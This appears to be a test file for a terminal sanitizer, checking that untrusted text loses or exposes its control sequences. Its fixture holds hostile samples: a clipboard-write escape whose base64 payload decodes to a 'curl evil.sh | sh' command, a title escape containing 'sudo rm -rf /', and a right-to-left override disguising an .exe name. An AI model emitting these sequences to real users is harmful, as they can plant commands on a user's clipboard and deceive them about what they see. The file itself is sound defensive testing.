/** The terminal sanitizer (lib/shared/terminal-text.ts): what a hostile string may not make a terminal do. */
import { describe, expect, test } from "bun:test";
import { hasControls, ourColoursOnly, terminalText, visibleText } from "../../../lib/shared/terminal-text.ts";

/** Every class a hostile server or repository was seen to send. */
const HOSTILE = {
  clipboard: "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
  clipboardSt: "\x1b]52;c;Y3VybA==\x1b\\",
  title: "\x1b]0;sudo rm -rf /\x07",
  link: "\x1b]8;;https://evil.test/\x1b\\click\x1b]8;;\x1b\\",
  cursorUp: "\x1b[2A",
  eraseLine: "\x1b[2K\r",
  clearScreen: "\x1b[H\x1b[2J",
  csi8bit: "\x9b31m",
  osc8bit: "\x9d0;title\x9c",
  reset: "\x1bc",
  charset: "\x1b(0",
  bell: "\x07",
  backspace: "\x08\x08\x08",
  rtlOverride: "\u202egnp.exe",
  isolate: "\u2066x\u2069",
};

describe("terminalText", () => {
  test("removes every hostile class and leaves no ESC, C0 (but newline and tab) or C1 behind", () => {
    for (const [name, s] of Object.entries(HOSTILE)) {
      const out = terminalText(`a${s}b`);
      expect({ name, out: /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/.test(out) }).toEqual({ name, out: false });
    }
  });

  test("keeps the text around and inside sequences that carry visible text", () => {
    expect(terminalText(`before${HOSTILE.clipboard}after`)).toBe("beforeafter");
    expect(terminalText(HOSTILE.link)).toBe("click");
    expect(terminalText("\x1b[31mred\x1b[0m plain")).toBe("red plain");
    expect(terminalText("line 1\r\nline 2\n\tindented")).toBe("line 1\nline 2\n\tindented");
  });

  test("an unterminated OSC loses only its introducer, not the rest of the text", () => {
    expect(terminalText("x\x1b]0;rest of the result")).toBe("x0;rest of the result");
  });

  test("oneLine folds newlines and tabs to spaces", () => {
    expect(terminalText("a\nb\tc", { oneLine: true })).toBe("a b c");
  });

  test("ordinary Unicode is untouched", () => {
    const s = "café ✓ 漢字 👩‍💻 ⎿ → …";
    expect(terminalText(s)).toBe(s);
    expect(hasControls(s)).toBe(false);
  });
});

describe("visibleText", () => {
  test("writes controls out so a person sees them", () => {
    expect(visibleText(`fx${HOSTILE.clipboard}`)).toBe("fx\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07");
    expect(visibleText("ok\u202eexe")).toBe("ok\\u202eexe");
    expect(visibleText("a\nb\tc\x9b")).toBe("a\\nb\\tc\\x9b");
    expect(visibleText("plain-name_1")).toBe("plain-name_1");
  });

  test("its output holds no control character", () => {
    for (const s of Object.values(HOSTILE)) expect(hasControls(visibleText(s))).toBe(false);
  });
});

describe("ourColoursOnly", () => {
  test("SGR colour codes pass; clipboard, title, links and cursor codes do not", () => {
    const ours = "\x1b[1mbold\x1b[22m \x1b[38;5;208morange\x1b[39m";
    expect(ourColoursOnly(ours)).toBe(ours);
    const out = ourColoursOnly(`${ours}${Object.values(HOSTILE).join("")}\nnext\tline`);
    expect(out.startsWith(ours)).toBe(true);
    expect(out.endsWith("\nnext\tline")).toBe(true);
    expect(out.replace(/\x1b\[[0-9;]*m/g, "")).not.toMatch(/[\x00-\x08\x0b-\x1f\x7f-\x9f]/);
  });
});

describe("hasControls", () => {
  test("finds each hostile class", () => {
    for (const s of Object.values(HOSTILE)) expect(hasControls(s)).toBe(true);
  });
});
